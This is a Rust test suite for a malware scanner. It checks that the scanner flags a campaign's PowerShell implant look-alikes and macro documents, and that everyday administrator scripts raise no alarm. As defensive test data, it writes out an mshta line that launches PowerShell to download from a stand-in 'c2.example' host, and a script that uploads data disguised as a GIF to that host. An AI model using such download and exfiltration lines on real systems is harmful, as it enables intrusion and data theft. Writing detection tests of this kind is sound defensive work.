//! The campaign's own traits are told by what a script does: other names, constants, aliases, quotes and another order
//! of things change nothing, and where too few traits remain the rule is silent.
//!
//! The look-alike is inert: its commands do nothing, its hosts are reserved.

// The helpers of a test fail as the test does.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

mod campaign;
mod seed;

use campaign::{ALL, DOCUMENTS, Trait, document, look_alike};
use strongroom_model::{Limits, Report, Verdict};

fn examine(text: &str) -> Report {
    strongroom_files::examine("x.ps1", text.as_bytes(), &Limits::default())
}

fn codes(report: &Report) -> Vec<String> {
    let all = report.walk().into_iter().flat_map(|report| &report.findings);
    all.map(|finding| finding.code.to_string()).collect()
}

fn signs(report: &Report) -> String {
    let all = report.walk().into_iter().flat_map(|report| &report.findings);
    all.filter(|finding| finding.code.starts_with("script.implant"))
        .map(|finding| finding.title.clone())
        .collect()
}

const SEEDS: u64 = 300;

#[test]
fn every_variation_of_the_implant_is_told_whole() {
    let mut whole = 0;
    for seed in 0..SEEDS {
        let text = look_alike(seed, &[]);
        let report = examine(&text);
        let found = codes(&report).contains(&"script.implant-whole".to_owned());
        if !found {
            println!("seed {seed}: {:?} {}\n{text}", codes(&report), signs(&report));
        }
        whole += u64::from(found && report.verdict() == Verdict::Malicious);
    }
    println!("implant look-alikes told whole: {whole} of {SEEDS}");
    assert_eq!(whole, SEEDS);
}

#[test]
fn one_trait_less_is_still_told_and_too_few_are_not() {
    for seed in 0..60 {
        for left in ALL {
            let text = look_alike(seed, &[left]);
            let told = codes(&examine(&text))
                .iter()
                .any(|code| code.starts_with("script.implant"));
            assert!(told, "seed {seed} without {left:?}:\n{text}");
        }
        for kept in [Trait::Form, Trait::Xor, Trait::Dispatch, Trait::Digits] {
            // One telling trait, with all that is everyday around it.
            let but: Vec<Trait> = ALL
                .into_iter()
                .filter(|one| *one != kept && !matches!(one, Trait::Sleep | Trait::Rotation))
                .collect();
            let text = look_alike(seed, &but);
            let told = codes(&examine(&text))
                .iter()
                .any(|code| code.starts_with("script.implant"));
            assert!(!told, "seed {seed} with {kept:?} alone:\n{text}");
        }
        let text = look_alike(seed, &ALL);
        assert!(
            examine(&text).verdict() < Verdict::Suspicious,
            "seed {seed} without any:\n{text}"
        );
    }
}

#[test]
fn what_stands_in_comments_and_help_is_no_trait() {
    let text = look_alike(1, &[]);
    let comment = format!(
        "<#\n{}\n#>\nwhile ($true) {{ Invoke-RestMethod 'https://status.example/'; Start-Sleep 60 }}\n",
        text.replace("#>", "")
    );
    let report = examine(&comment);
    assert!(
        !codes(&report)
            .iter()
            .any(|code| code.starts_with("script.implant")),
        "{:?}",
        codes(&report)
    );
}

/// What administrators write that has one or two of the signs.
const EVERYDAY: &[(&str, &str)] = &[
    (
        "a password of letters and digits",
        "$n = 0\nwhile ($n -lt 5) {\n  $p = -join ((48..57) + (65..90) + (97..122) | Get-Random -Count 16 | % {[char]$_})\n  Invoke-RestMethod -Method Post -Uri 'https://vault.example/api' -Body $p\n  $n++\n  Start-Sleep 1\n}\n",
    ),
    (
        "a menu",
        "param($Server)\nwhile ($true) {\n  $c = Read-Host 'Choice'\n  switch ($c) { 1 { Get-Service } 2 { Get-Process } 3 { Invoke-RestMethod \"https://$Server/upload\" -Method Post -ContentType 'multipart/form-data; boundary=x' -Body $b } 4 { break } }\n  Start-Sleep 1\n}\n",
    ),
    (
        "a checksum",
        "$crc = 0xFFFFFFFF\nforeach ($b in [IO.File]::ReadAllBytes('a.bin')) {\n  $crc = $crc -bxor $b\n  for ($i = 0; $i -lt 8; $i++) { if ($crc -band 1) { $crc = ($crc -shr 1) -bxor 0xEDB88320 } else { $crc = $crc -shr 1 } }\n}\n'{0:X8}' -f ($crc -bxor 0xFFFFFFFF)\n",
    ),
    (
        "an upload with retries",
        "$urls = @('https://a.example/up', 'https://b.example/up')\n$i = 0\ndo {\n  $u = $urls[$i % 2]\n  $body = \"--b`r`nContent-Disposition: form-data; name=`\"f`\"`r`n`r`n$text`r`n--b--\"\n  $r = Invoke-WebRequest $u -Method Post -Body $body -ContentType 'multipart/form-data; boundary=b'\n  if ($r.StatusCode -eq 429) { Start-Sleep 30 } elseif ($r.StatusCode -eq 200) { break } elseif ($r.StatusCode -eq 503) { Start-Sleep 60 }\n  $i++\n} while ($i -lt 9)\n",
    ),
    (
        "states of a service",
        "while ($true) {\n  $s = Invoke-RestMethod 'https://deploy.example/job/7'\n  if ($s.state -eq 1) { 'queued' } elseif ($s.state -eq 2) { 'running' } elseif ($s.state -eq 3) { break }\n  Start-Sleep 10\n}\n",
    ),
    (
        "a code of six digits",
        "1..20 | % { $pin = -join (0..9 | Get-Random -Count 6); Invoke-RestMethod -Method Post -Uri 'https://door.example/pins' -Body $pin; Start-Sleep 2 }\n",
    ),
];

#[test]
fn administrators_with_one_or_two_of_the_signs_raise_no_alarm() {
    for (name, text) in EVERYDAY {
        let report = examine(text);
        println!("{name}: {:?} {:?}", report.verdict(), codes(&report));
        assert!(
            report.verdict() < Verdict::Suspicious,
            "{name}: {:?}",
            codes(&report)
        );
    }
}

#[test]
fn every_macro_document_of_the_campaign_is_malicious() {
    for kind in DOCUMENTS {
        let mut told = 0;
        for seed in 0..40 {
            let bytes = document(kind, seed);
            let report = strongroom_files::examine("offer.docm", &bytes, &Limits::default());
            let wanted = match kind {
                "drop and bypass" => "macro.drop-bypass",
                "download on a Mac" => "macro.auto-run-downloader",
                "a workbook rebuilt" => "macro.document-rebuilt",
                _ => "macro.auto-run-concealed",
            };
            let found = codes(&report).iter().any(|code| code == wanted);
            let enough = kind == "a workbook rebuilt" || report.verdict() == Verdict::Malicious;
            if !(found && enough) {
                println!(
                    "{kind}, seed {seed}: {:?} {:?} {:?}",
                    report.verdict(),
                    codes(&report),
                    report.gaps
                );
            }
            told += u64::from(found && enough && report.verdict() >= Verdict::Suspicious);
        }
        println!("{kind}: {told} of 40");
        assert_eq!(told, 40, "{kind}");
    }
}

#[test]
fn a_script_inside_the_command_line_of_mshta_is_read() {
    let line = "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"powershell -c Invoke-WebRequest https://c2.example/a -OutFile a.bin\",0)(window.close)";
    let macros = format!(
        "Sub AutoOpen()\n  Shell \"{}\"\nEnd Sub\n",
        line.replace('"', "\"\"")
    );
    let report = strongroom_files::examine("a.docm", &campaign::docm(&macros), &Limits::default());
    let codes = codes(&report);
    assert!(codes.contains(&"script.proxy-inline".to_owned()), "{codes:?}");
    assert!(
        codes.contains(&"script.download".to_owned()),
        "{codes:?} {:?}",
        report.gaps
    );
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn data_that_is_sent_under_the_head_of_an_image_is_told() {
    for head in [
        "[Text.Encoding]::ASCII.GetBytes('GIF89a')",
        "71,73,70,56,57,97",
        "0x47,0x49,0x46,0x38,0x39,0x61",
    ] {
        let text = format!(
            "[byte[]]$h = {head}\n$w = New-Object Net.WebClient\n$w.UploadData('https://c2.example/temp.gif', [byte[]]($h + $d))\n# collected before, and sent once\n$x = 'some text that is long enough to be looked at at all, as such scripts are, and a little longer still'\n"
        );
        let found = codes(&examine(&text));
        let told = found.contains(&"script.image-upload".to_owned());
        assert!(
            told || head.starts_with("0x47") || head.starts_with("71"),
            "{head}: {found:?}"
        );
        println!("{head}: {found:?}");
    }
}
